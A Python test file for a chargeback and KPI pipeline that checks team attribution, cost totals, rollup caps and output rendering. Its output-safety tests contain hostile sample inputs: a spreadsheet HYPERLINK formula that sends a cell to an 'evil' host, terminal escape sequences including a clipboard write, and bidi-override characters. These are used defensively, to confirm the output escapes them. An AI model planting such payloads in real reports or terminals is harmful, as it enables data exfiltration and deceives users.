"""Chargeback on Azurite: calls of several days and teams, attributed by every match key of
the map (first match wins, the rest Unattributed), rolled up, and summed by every `--by`:
lines add up to the total, the total is the `kpi` report's, and each team's calls are the
ones the map gives it, counted here independently of the code under test."""

from __future__ import annotations

import random
import re
from collections import Counter
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from pipeline.cli.main import main as cli
from pipeline.ingest.batch import process_batch
from pipeline.kpi import attribution, chargeback, daily
from pipeline.model import EventIn
from pipeline.settings import Config
from pipeline.store.account import Store
from tests.conftest import settings_env
from tests.fixtures import apim, sources

DAYS = [date(2025, 11, 3), date(2025, 11, 4), date(2025, 11, 5)]
# Ids compare case-insensitively: a map may say "team-ops" for "Team-Ops".
SUBSCRIPTIONS = ["team-claims", "team-research", "team-hr", "Team-Ops"]
PRODUCTS = ["genai-gold", "genai-silver"]
APPS = ["11111111-aaaa-4aaa-8aaa-000000000001", "22222222-bbbb-4bbb-8bbb-000000000002"]
USERS = [f"00000000-0000-4000-8000-{i:012d}" for i in range(6)]
DEPLOYMENTS = ["chat-prod", "mini-prod", "custom-ft"]
MODELS = {"chat-prod": "gpt-4o-2024-08-06", "mini-prod": "gpt-4o-mini-2024-07-18"}

MAP = {
    "version": "2025-11-01",
    "rules": [
        {"team": "Claims", "costCenter": "CC-4100", "match": {"subscription": "TEAM-CLAIMS"}},
        {
            "team": "Research",
            "costCenter": "CC-7000",
            "match": {"product": "genai-gold", "app": APPS[0].upper()},
        },
        {"team": "HR", "costCenter": "CC-2000", "match": {"user": USERS[3]}},
        {"team": "Fine-tuning", "match": {"deployment": "custom-ft"}},
        # Never reached for team-claims calls: the first rule already took them.
        {"team": "Shadowed", "match": {"subscription": "team-claims"}},
        {"team": "Gateway", "costCenter": "CC-9000", "match": {"service": "other-apim"}},
        {"team": "Ops", "match": {"subscription": "team-ops", "product": "genai-silver"}},
        {
            "team": "Mini",
            "match": {
                "service": "CONTOSO-APIM",
                "deployment": "mini-prod",
                "product": "genai-gold",
            },
        },
    ],
}


def corpus(seed: int = 7) -> list[dict[str, Any]]:
    """What each call is, before it is turned into a log-to-eventhub message."""
    rng = random.Random(seed)
    calls = []
    for i in range(240):
        day = DAYS[i % len(DAYS)]
        deployment = rng.choice(DEPLOYMENTS)
        calls.append(
            {
                "cid": apim.new_id(f"chargeback-{seed}-{i}"),
                "time": f"{day}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:07.5Z",
                "subscription": rng.choice(SUBSCRIPTIONS),
                "product": rng.choice(PRODUCTS),
                "app": rng.choice(APPS),
                "user": rng.choice(USERS),
                "deployment": deployment,
                "status": 200 if rng.random() > 0.1 else 429,
                "prompt": rng.randint(10, 4000),
                "completion": rng.randint(1, 900),
            }
        )
    return calls


def message(call: dict[str, Any]) -> bytes:
    ok = call["status"] == 200
    response = (
        apim.chat_response(
            "ok",
            model=MODELS.get(call["deployment"], "my-finetune"),
            prompt=call["prompt"],
            completion=call["completion"],
            rid=f"chatcmpl-{call['cid'][:8]}",
        )
        if ok
        else None
    )
    body = orjson.loads(
        sources.policy_message(
            call["cid"],
            time=call["time"],
            status=call["status"],
            response=response,
            request=apim.chat_request(("user", "hello")),
            caller=(call["app"], call["user"], "72f988bf-86f1-41af-91ab-2d7cd011db47"),
            backend_url=apim.AOAI
            + f"/openai/deployments/{call['deployment']}/chat/completions?api-version=2024-10-21",
            subscription=call["subscription"],
        )
    )
    body["productId"] = call["product"]
    return orjson.dumps(body)


def expected_team(call: dict[str, Any], rules: list[dict[str, Any]]) -> str:
    """The map's rule, read independently of pipeline/kpi/attribution.py. Caller claims are
    kept for successful calls only (docs/sources.md, Attribution): a failed call has no app
    or user to match."""
    ok = call["status"] == 200
    values = {
        "subscription": call["subscription"],
        "product": call["product"],
        "app": call["app"] if ok else "",
        "user": call["user"] if ok else "",
        "deployment": call["deployment"],
        "service": "contoso-apim",
    }
    for rule in rules:
        if all(values[k].lower() == v.lower() for k, v in rule["match"].items()):
            return rule["team"]
    return "Unattributed"


@pytest.fixture
def loaded(store: Store, cfg: Config, tmp_path: Path) -> tuple[Config, list[dict[str, Any]]]:
    path = tmp_path / "attribution.json"
    path.write_bytes(orjson.dumps(MAP))
    cfg = Config(**{**_fields(cfg), "attribution": str(path)})
    calls = corpus()
    events = [EventIn(message(c)) for c in calls]
    for i in range(0, len(events), 50):
        process_batch(events[i : i + 50], cfg, store)
    daily.roll_up(DAYS, cfg, store)
    return cfg, calls


def _fields(cfg: Config) -> dict[str, Any]:
    return {
        name: getattr(cfg, name)
        for name in Config.__dataclass_fields__
        if Config.__dataclass_fields__[name].init
    }


def run_cli(cfg: Config, monkeypatch: pytest.MonkeyPatch, *args: str) -> int:
    for key, value in settings_env(cfg).items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("ATTRIBUTION", cfg.attribution)
    return cli(list(args))


def chargeback_json(
    cfg: Config, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], by: str
) -> dict[str, Any]:
    capsys.readouterr()
    period = ["--from", str(DAYS[0]), "--to", str(DAYS[-1])]
    assert run_cli(cfg, monkeypatch, "chargeback", *period, "--by", by, "--format", "json") == 0
    return orjson.loads(capsys.readouterr().out)


def kpi_total(
    cfg: Config, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> dict[str, Any]:
    capsys.readouterr()
    period = ["--from", str(DAYS[0]), "--to", str(DAYS[-1])]
    assert run_cli(cfg, monkeypatch, "kpi", *period, "--format", "json") == 0
    (total,) = [ln for ln in orjson.loads(capsys.readouterr().out) if ln["Model"] == "TOTAL"]
    return total


@pytest.mark.parametrize("by", list(chargeback.BY))
def test_lines_sum_to_the_total_and_the_total_is_the_kpi_reports(
    by: str,
    loaded: tuple[Config, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    cfg, calls = loaded
    doc = chargeback_json(cfg, monkeypatch, capsys, by)
    assert (doc["from"], doc["to"], doc["by"], doc["currency"]) == (
        "2025-11-03",
        "2025-11-05",
        by,
        "USD",
    )
    assert doc["attributionVersion"] == "2025-11-01" and doc["priceTableVersion"]
    total = doc["total"]
    for name in (*chargeback.MEASURES, *chargeback.COVERAGE):
        assert sum(ln[name] for ln in doc["lines"]) == total[name], name
    # Micro-dollars apportioned: the rounded lines add up to the rounded total exactly.
    assert round(sum(ln["costUsd"] for ln in doc["lines"]) * 1e6) == round(total["costUsd"] * 1e6)
    assert abs(sum(ln["share"] for ln in doc["lines"]) - 1) < 1e-3
    kpi = kpi_total(cfg, monkeypatch, capsys)
    assert total["calls"] == kpi["Calls"] == len(calls)
    assert total["succeeded"] == kpi["Succeeded"]
    assert total["totalTokens"] == kpi["TotalTokens"] and total["totalTokens"] > 0
    assert total["unpricedCalls"] == kpi["UnpricedCalls"] > 0  # custom-ft has no price
    # Equal, not close: the same days' costs summed the same way.
    assert total["costUsd"] == kpi["CostUsd"] and total["costUsd"] > 0
    costs = [ln["costUsd"] for ln in doc["lines"]]
    assert costs == sorted(costs, reverse=True)  # largest first


def test_each_team_gets_the_calls_its_first_matching_rule_gives_it(
    loaded: tuple[Config, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    cfg, calls = loaded
    doc = chargeback_json(cfg, monkeypatch, capsys, "team")
    got = {ln["group"]: ln["calls"] for ln in doc["lines"]}
    want = Counter(expected_team(c, MAP["rules"]) for c in calls)
    assert got == dict(want)
    assert {"Claims", "Research", "HR", "Fine-tuning", "Ops", "Mini", "Unattributed"} <= set(got)
    assert "Shadowed" not in got and "Gateway" not in got  # first match wins; no such service
    centers = {ln["group"]: ln["costCenter"] for ln in doc["lines"]}
    assert centers["Claims"] == "CC-4100" and centers["Unattributed"] is None
    assert centers["Fine-tuning"] is None
    by_center = chargeback_json(cfg, monkeypatch, capsys, "cost-center")
    assert {ln["group"] for ln in by_center["lines"]} >= {"CC-4100", "CC-7000", "Unattributed"}


def test_editing_the_map_re_attributes_history_on_re_roll(
    loaded: tuple[Config, list[dict[str, Any]]],
    store: Store,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    cfg, calls = loaded
    edited = {
        "version": "2025-12-01",
        "rules": [{"team": "Everyone", "match": {"service": "contoso-apim"}}],
    }
    Path(cfg.attribution).write_bytes(orjson.dumps(edited))
    before = chargeback_json(cfg, monkeypatch, capsys, "team")
    assert "Everyone" not in {ln["group"] for ln in before["lines"]}  # not until re-rolled
    daily.roll_up(DAYS, cfg, store)
    after = chargeback_json(cfg, monkeypatch, capsys, "team")
    assert [(ln["group"], ln["calls"]) for ln in after["lines"]] == [("Everyone", len(calls))]
    assert after["attributionVersion"] == "2025-12-01"
    assert after["total"] == before["total"]


def test_month_and_formats(
    loaded: tuple[Config, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    cfg, _ = loaded
    capsys.readouterr()
    assert run_cli(cfg, monkeypatch, "chargeback", "--month", "2025-11", "--by", "user") == 0
    out = capsys.readouterr().out
    assert out.startswith("2025-11-01 to 2025-11-30 by user") and "TOTAL" in out
    assert run_cli(cfg, monkeypatch, "chargeback", "--month", "2025-11", "--format", "csv") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("group,costCenter,calls,") and lines[-1].startswith("TOTAL,")
    with pytest.raises(SystemExit, match="--to goes with --from"):
        run_cli(cfg, monkeypatch, "chargeback", "--month", "2025-11", "--to", "2025-11-05")
    page = tmp_path / "statement.html"
    args = ["chargeback", "--month", "2025-11", "--format", "html", "--out", str(page)]
    assert run_cli(cfg, monkeypatch, *args) == 0
    html = page.read_text()
    assert html.startswith("<!DOCTYPE html>") and "Claims" in html and "<svg" in html


def test_a_malformed_map_is_a_clear_error_naming_the_rule(
    cfg: Config,
    store: Store,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    bad = {
        "rules": [
            {"team": "A", "match": {"subscription": "x"}},
            {"team": "B", "match": {"usr": "y"}},
        ]
    }
    path = tmp_path / "map.json"
    path.write_bytes(orjson.dumps(bad))
    with pytest.raises(
        attribution.AttributionError, match=r"rule 2 \(team 'B'\): unknown match key 'usr'"
    ):
        attribution.load(str(path))
    cfg = Config(**{**_fields(cfg), "attribution": str(path)})
    capsys.readouterr()
    assert run_cli(cfg, monkeypatch, "rollup", "--day", "2025-11-03") == 2
    assert "rule 2 (team 'B')" in capsys.readouterr().err
    for doc, message in (
        (b"{", "not valid JSON"),
        ({"rules": [{"team": "", "match": {"user": "u"}}]}, 'rule 1: "team"'),
        ({"rules": [{"team": "T", "match": {}}]}, '"match" must be a non-empty object'),
        ({"rules": [{"team": "T", "costCenter": 7, "match": {"app": "a"}}]}, '"costCenter"'),
    ):
        data = doc if isinstance(doc, bytes) else orjson.dumps(doc)
        with pytest.raises(attribution.AttributionError, match=message):
            attribution.parse(data)


def test_apportioned_cents_add_up_whatever_the_lines() -> None:
    rng = random.Random(3)
    for _ in range(200):
        exact = [
            rng.random() * rng.choice((1e-7, 1e-3, 1, 100)) for _ in range(rng.randint(1, 400))
        ]
        micros = chargeback.apportion(exact, sum(exact))
        assert sum(micros) == round(sum(exact) * 1e6)
        assert all(abs(m - x * 1e6) < 1 for m, x in zip(micros, exact, strict=True))


def test_days_of_the_period_not_rolled_up_are_named(
    loaded: tuple[Config, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    cfg, _ = loaded
    capsys.readouterr()
    last = DAYS[-1] + timedelta(days=3)
    assert run_cli(cfg, monkeypatch, "chargeback", "--from", str(DAYS[0]), "--to", str(last)) == 0
    assert "3 day(s) of the period have no KPI rows (first 2025-11-06)" in capsys.readouterr().err


def test_the_map_can_live_in_a_blob(store: Store) -> None:
    container = store.blobs.get_container_client(f"config-{store.cfg.archive_container}")
    container.create_container()
    container.upload_blob("attribution.json", orjson.dumps(MAP))
    source = f"blob:{container.container_name}/attribution.json"
    teams = attribution.load(source, read_blob=store.read_blob)
    assert teams.version == "2025-11-01" and len(teams.rules) == len(MAP["rules"])
    with pytest.raises(attribution.AttributionError, match="expected blob:CONTAINER/NAME"):
        attribution.load("blob:no-name", read_blob=store.read_blob)


def test_packed_usage_rows_round_trip_over_several_entities() -> None:
    """A day of 40,000 users is several entities of several 60 KiB parts: the rows come back
    as they went in, in order, with the day and the versions."""
    from pipeline.kpi import packed

    rng = random.Random(4)
    rows = [
        {"CallerUserId": f"user-{rng.getrandbits(64):016x}", "Calls": i, "CostUsd": rng.random()}
        for i in range(40_000)
    ]
    entities = packed.pack("2025-11-04", "user", rows, {"PriceTableVersion": "v1"})
    assert len(entities) >= 2 and all(e["RowKey"].startswith("u:") for e in entities)
    parts = [k for e in entities for k in e if k.startswith("Data")]
    assert len(parts) > packed.PARTS_PER_ENTITY
    back = list(packed.unpack(entities))
    assert [{k: r[k] for k in ("CallerUserId", "Calls", "CostUsd")} for r in back] == rows
    assert back[0]["PartitionKey"] == "2025-11-04" and back[0]["PriceTableVersion"] == "v1"


def test_each_subscriptions_cost_is_the_kpi_reports(
    loaded: tuple[Config, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A line's cost, not only the total: by subscription, each line is the `kpi` report's
    line for that subscription (KpiDaily groups: another table, another path)."""
    cfg, _ = loaded
    doc = chargeback_json(cfg, monkeypatch, capsys, "subscription")
    capsys.readouterr()
    period = ["--from", str(DAYS[0]), "--to", str(DAYS[-1])]
    assert (
        run_cli(cfg, monkeypatch, "kpi", *period, "--by", "subscription", "--format", "json") == 0
    )
    kpi = {ln["SubscriptionId"]: ln for ln in orjson.loads(capsys.readouterr().out)}
    assert {ln["group"] for ln in doc["lines"]} == set(kpi) - {"TOTAL"}
    for line in doc["lines"]:
        want = kpi[line["group"]]
        assert abs(line["costUsd"] - want["CostUsd"]) <= 1e-6, line["group"]
        assert (line["calls"], line["totalTokens"]) == (want["Calls"], want["TotalTokens"])


def test_a_team_with_two_cost_centers_names_both(
    store: Store, cfg: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    rules = {
        "rules": [
            {"team": "Claims", "costCenter": "CC-4100", "match": {"product": "genai-gold"}},
            {"team": "Claims", "costCenter": "CC-4200", "match": {"product": "genai-silver"}},
        ]
    }
    path = tmp_path / "map.json"
    path.write_bytes(orjson.dumps(rules))
    cfg = Config(**{**_fields(cfg), "attribution": str(path)})
    events = [EventIn(message(c)) for c in corpus(seed=9)[:40]]
    process_batch(events, cfg, store)
    daily.roll_up(DAYS, cfg, store)
    doc = chargeback_json(cfg, monkeypatch, capsys, "team")
    (claims,) = [ln for ln in doc["lines"] if ln["group"] == "Claims"]
    assert claims["costCenter"] == "CC-4100,CC-4200"


def test_made_up_model_names_cannot_grow_the_rollup_with_the_calls() -> None:
    """A client names the model of some routes: 3,000 distinct names in a day keep the
    first MAX_VALUES_PER_DAY as groups and count the rest as (other); nothing is lost."""
    from datetime import UTC, datetime

    from pipeline.kpi import prices, rollup

    def rows() -> Any:
        for i in range(3_000):
            yield {
                "Deployment": "chat",
                "Model": f"made-up-{i}",
                "Status": 200,
                "CallTime": datetime(2025, 11, 4, 10, tzinfo=UTC),
                "PromptTokens": 10,
                "CompletionTokens": 5,
                "TotalTokens": 15,
            }

    rolled = rollup.rollup_day(rows(), DAYS[1], prices.load(""))
    models = {e.get("Model") for e in rolled.daily if e["RowKey"] != rollup.TOTAL_KEY}
    assert len(models) == rollup.MAX_VALUES_PER_DAY + 1 and rollup.OTHER in models
    assert rolled.daily[-1]["Calls"] == 3_000
    (other,) = [e for e in rolled.daily if e.get("Model") == rollup.OTHER]
    assert other["Calls"] == 3_000 - rollup.MAX_VALUES_PER_DAY


def test_made_up_names_on_failing_calls_push_no_answered_deployment_out_of_its_team() -> None:
    """A client sends 2,100 failing calls, each naming another model (a route whose body
    names it), before the one call a team makes: the cap used to count them first, name that
    call's deployment (other) and bill its team's spend to Unattributed."""
    from datetime import UTC, datetime

    from pipeline.kpi import attribution, prices, rollup

    def rows() -> Any:
        t = datetime(2025, 11, 4, 10, tzinfo=UTC)
        for i in range(2_100):
            yield {"Deployment": f"made-up-{i}", "Model": f"m-{i}", "Status": 404, "CallTime": t}
        yield {
            "Deployment": "claims-gpt4o",
            "Model": "gpt-4o-2024-08-06",
            "SubscriptionId": "team-claims",
            "Status": 200,
            "CallTime": t,
            "PromptTokens": 1000,
            "CompletionTokens": 500,
            "TotalTokens": 1500,
        }

    # Matched by subscription: a rule naming the deployment would exempt it from the cap.
    teams = attribution.parse(
        b'{"rules": [{"team": "Claims", "match": {"subscription": "team-claims"}}]}'
    )
    folded = rollup.aggregate(rows(), DAYS[1], prices.load(""), teams)
    answered = [(key, acc) for key, acc in folded.hours.items() if acc.counts["Succeeded"]]
    ((key, acc),) = answered
    assert key[1] == "Claims" and "claims-gpt4o" in key and acc.tokens["PromptTokens"] == 1000
    rolled = rollup.rollup_day(rows(), DAYS[1], prices.load(""), teams)
    deployments = {e.get("Deployment") for e in rolled.daily}
    assert "claims-gpt4o" in deployments and rollup.OTHER in deployments

    # Past the cap of answered names too (a sender on the hub), the call keeps its team; its
    # deployment, which nobody wrote down, is what the cap turns into (other).
    def answered_first() -> Any:
        for row in rows():
            yield {**row, "Status": 200}

    folded = rollup.aggregate(answered_first(), DAYS[1], prices.load(""), teams)
    claims = [key for key in folded.hours if key[1] == "Claims"]
    assert len(claims) == 1 and rollup.OTHER in claims[0]


def test_made_up_pairs_of_names_cannot_grow_the_rollup_and_the_same_groups_stay_in_any_order(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Failing calls to /openai/deployments/{D}/fine_tuning/jobs with the body's model M name
    both, each within its cap, but every pair was a group: 400,000 calls, 800,000 KPI rows and
    3.7 GB. Past MAX_GROUPS_PER_DAY the groups fold into (other), the answered ones stay, the
    same ones whatever the order the rows come in, and every call is counted."""
    from datetime import UTC, datetime

    from pipeline.kpi import prices, rollup

    monkeypatch.setattr(rollup, "MAX_GROUPS_PER_DAY", 40)
    t = datetime(2025, 11, 4, 10, tzinfo=UTC)
    made_up = [
        {"Deployment": f"d{i // 30}", "Model": f"m{i % 30}", "Status": 404,
         "CallTime": t.replace(hour=i % 24), "DurationMs": 30 + i, "SubscriptionId": "x"}
        for i in range(900)
    ]  # fmt: skip
    answered = [
        {"Deployment": f"chat-{i}", "Model": "gpt-4o-2024-08-06", "Status": 200,
         "CallTime": t, "PromptTokens": 1000, "CompletionTokens": 10, "TotalTokens": 1010,
         "DurationMs": 900, "SubscriptionId": "x"}
        for i in range(5)
    ]  # fmt: skip
    rows = [*made_up, *answered]
    table = prices.load("")
    rolled = rollup.rollup_day(rows, DAYS[1], table)
    groups = rolled.daily[:-1]
    assert len(groups) == 40 + 1 and len(rolled.hourly) < 40 * 24
    assert {f"chat-{i}" for i in range(5)} <= {e.get("Deployment") for e in groups}
    (other,) = [e for e in groups if e.get("Deployment") == rollup.OTHER]
    assert other["Calls"] == 900 - 35 and rolled.daily[-1]["Calls"] == 905
    assert rolled.daily[-1]["CostUsd"] > 0
    for seed in range(3):
        shuffled = rows[:]
        random.Random(seed).shuffle(shuffled)
        again = rollup.rollup_day(shuffled, DAYS[1], table)
        assert again.daily == rolled.daily and again.hourly == rolled.hourly


def test_names_in_budgets_and_the_price_table_are_never_capped() -> None:
    """2,000 answered calls forged under made-up names, read first, used to push a real
    deployment into (other): its budget saw no spend and never alerted."""
    from datetime import UTC, datetime

    from pipeline.kpi import budgets, prices, rollup

    t = datetime(2025, 11, 4, 10, tzinfo=UTC)
    forged = [
        {"Deployment": f"x{i}", "Model": f"m{i}", "Status": 200, "CallTime": t, "TotalTokens": 2}
        for i in range(rollup.MAX_VALUES_PER_DAY)
    ]
    real = {"Deployment": "chat-prod", "Model": "gpt-4o-2024-08-06", "Status": 200,
            "CallTime": t, "PromptTokens": 100_000, "CompletionTokens": 50_000,
            "TotalTokens": 150_000}  # fmt: skip
    found = budgets.parse(
        b'{"budgets":[{"name":"prod","scope":{"deployment":"Chat-Prod"},"period":"day",'
        b'"amountUsd":0.5,"thresholds":[1.0]}]}'
    )
    table = prices.load("")
    named = rollup.named_by(table, attribution.NONE, [p for b in found for p in b.scope])
    rolled = rollup.rollup_day([*forged, real], DAYS[1], table, named=named)
    (prod,) = [e for e in rolled.daily if e.get("Deployment") == "chat-prod"]
    assert prod["Model"] == "gpt-4o-2024-08-06" and prod["TotalTokens"].value == 150_000
    hourly = [e for e in rolled.hourly if e.get("Level") == "hour"]
    (spent,) = budgets.spend(found, hourly, datetime(2025, 11, 4, 23, tzinfo=UTC))
    assert spent.cost == 0.75 and budgets.decide(spent, datetime(2025, 11, 4, 23, tzinfo=UTC))

    # Exempt from the cap, their spellings are no way around it: one group each.
    def spelling(i: int) -> str:  # 512 ways to case "chat-prod"
        return "".join(c.upper() if i >> n & 1 else c for n, c in enumerate("chat-prod"))

    spelled = [
        {**real, "Deployment": spelling(i), "Model": " GPT-4o-2024-08-06" + "\t" * (i // 50)}
        for i in range(3_000)
    ]
    rolled = rollup.rollup_day([*forged, real, *spelled], DAYS[1], table, named=named)
    (prod,) = [e for e in rolled.daily if e.get("Deployment") == "chat-prod"]
    assert prod["Calls"] == 3_001 and len(rolled.daily) == rollup.MAX_VALUES_PER_DAY + 2


def test_the_rollup_never_caps_a_deployment_a_budget_names(
    cfg: Config, store: Store, tmp_path: Path
) -> None:
    """The timer's rollup reads the budgets for their names: 2,050 answered calls forged
    under made-up deployments, read before the real one, leave it its own KPI rows."""
    from dataclasses import replace

    from pipeline.kpi import rollup
    from pipeline.store.kpis import KpiStore
    from pipeline.store.rows import shard_of

    when = "2025-11-04T10:15:02Z"
    forged = [apim.gateway(f"a-{i:05d}", time=when, deployment=f"x{i}") for i in range(2_050)]
    # The real call is read last: the last shard, the last key in it.
    real = next(
        cid for i in range(100) if shard_of(cid := f"zz-prod-{i}", cfg.shards) == cfg.shards - 1
    )
    events = [apim.envelope(*forged[i : i + 500]) for i in range(0, len(forged), 500)]
    events.append(apim.envelope(apim.gateway(real, time=when, deployment="prod-chat")))
    process_batch([EventIn(b, partition="0", sequence=i) for i, b in enumerate(events)], cfg, store)
    budgets = tmp_path / "budgets.json"
    budgets.write_bytes(
        b'{"budgets":[{"name":"prod","scope":{"deployment":"Prod-Chat"},"period":"day",'
        b'"amountUsd":1}]}'
    )
    daily.roll_up([DAYS[1]], replace(cfg, budgets=str(budgets)), store)
    names = {e.get("Deployment") for e in KpiStore(store).rows("2025-11-04", "2025-11-04")}
    assert "prod-chat" in names and rollup.OTHER in names
    # Budgets that cannot be read are the budgets check's to report: the KPIs still roll up.
    missing = replace(cfg, budgets="blob:no-such-container/budgets.json")
    assert daily.roll_up([DAYS[1]], missing, store)[0].calls == 2_051


def test_invisible_characters_in_names_are_shown_not_sent() -> None:
    """A bidi override (U+202E) reversed what a terminal or a spreadsheet showed after it, and
    a zero-width space made two groups that read the same: shown as escapes in the table and
    CSV, escaped in JSON (read back as the same name)."""
    folded = chargeback.Folded()
    names = ["team-\u202eecnanif", "team-\u200bfinance", "team-finance", "a\u2028b\U000e0041"]
    for name in names:
        folded.groups[name] = chargeback.Sums()
        folded.groups[name].measures["calls"] = 1
    doc = chargeback.report(folded, "user", DAYS[0], DAYS[-1])
    invisible = re.compile(
        "[\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
    )
    table, text, json = chargeback.as_table(doc), chargeback.as_csv(doc), chargeback.as_json(doc)
    for out in (table, text, json):
        assert not invisible.search(out)
    assert "team-\\u202eecnanif" in table and "team-\\u200bfinance" in text
    assert "a\\u2028b\\U000e0041" in table
    assert {ln["group"] for ln in orjson.loads(json)["lines"]} == set(names)


def test_the_invisible_characters_are_every_format_and_separator_character() -> None:
    """render.INVISIBLE is a list (computing it costs 0.15 s per command): it must hold every
    Cf, Zl and Zp character of the Unicode database Python runs with."""
    import sys
    import unicodedata

    from pipeline.common import render

    pattern = re.compile(f"[{render.INVISIBLE}]")
    chars = (chr(c) for c in range(sys.maxunicode + 1))
    missing = [
        f"U+{ord(c):04X}"
        for c in chars
        if unicodedata.category(c) in ("Cf", "Zl", "Zp") and not pattern.match(c)
    ]
    assert not missing


def test_hostile_group_names_are_inert_in_csv_and_on_the_terminal() -> None:
    folded = chargeback.Folded()
    odd = "osc\x1b]52;c;eA==\x07\u009b2J\x7f"  # a clipboard write, an 8-bit CSI, DEL
    for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "ok\x1b[2Jcleared", "+1", "plain", odd):
        sums = folded.groups[name] = chargeback.Sums()
        sums.measures["calls"] = 1
    doc = chargeback.report(folded, "deployment", DAYS[0], DAYS[-1])
    text = chargeback.as_csv(doc)
    lines = text.splitlines()
    assert not [ln for ln in lines if ln.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in text and "\n'+1," in text and "\nplain," in text
    table = chargeback.as_table(doc)
    assert "\x1b" not in table and "\\x1b[2Jcleared" in table
    # CSV and JSON go to standard output too: nothing a terminal would act on.
    for out in (text, chargeback.as_json(doc)):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)
    assert orjson.loads(chargeback.as_json(doc))["lines"][-1]["group"] in (odd, "plain")
    with pytest.raises(attribution.AttributionError, match="Unattributed"):
        attribution.parse(
            orjson.dumps({"rules": [{"team": "Unattributed", "match": {"user": "u"}}]})
        )


def test_a_budgets_subscription_is_never_folded_into_other(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Past MAX_GROUPS_PER_DAY groups, which subscriptions stayed was a hash's choice: a
    budget scoped to a subscription folded into (other) read a spend of 0 and never alerted
    (black-box audit: 20,000 calls of other subscriptions, 6 of 10 budgets blind). A
    subscription or product the budgets or the attribution map name outranks the others."""
    from datetime import UTC, datetime

    from pipeline.kpi import budgets, prices, rollup

    monkeypatch.setattr(rollup, "MAX_GROUPS_PER_DAY", 40)
    t = datetime(2025, 11, 4, 10, tzinfo=UTC)
    call = {"Deployment": "chat", "Model": "gpt-4o-2024-08-06", "Status": 200, "CallTime": t,
            "PromptTokens": 1000, "CompletionTokens": 10, "TotalTokens": 1010}  # fmt: skip
    others = [{**call, "SubscriptionId": f"sub-{i}"} for i in range(400)]
    victims = [{**call, "SubscriptionId": f"victim-{i}"} for i in range(10)]
    doc = {"budgets": [{"name": f"v{i}", "scope": {"subscription": f"Victim-{i}"},
                        "period": "day", "amountUsd": 0.0001, "thresholds": [1.0]}
                       for i in range(10)]}  # fmt: skip
    found = budgets.parse(orjson.dumps(doc))
    table = prices.load("")
    named = rollup.named_by(table, attribution.NONE, [p for b in found for p in b.scope])
    for rows in ([*others, *victims], [*victims, *others]):
        rolled = rollup.rollup_day(rows, DAYS[1], table, named=named)
        kept = {e.get("SubscriptionId") for e in rolled.daily}
        assert {f"victim-{i}" for i in range(10)} <= kept
        hourly = [e for e in rolled.hourly if e.get("Level") == "hour"]
        spent = budgets.spend(found, hourly, datetime(2025, 11, 4, 23, tzinfo=UTC))
        assert all(s.cost > 0 for s in spent), [s.cost for s in spent]
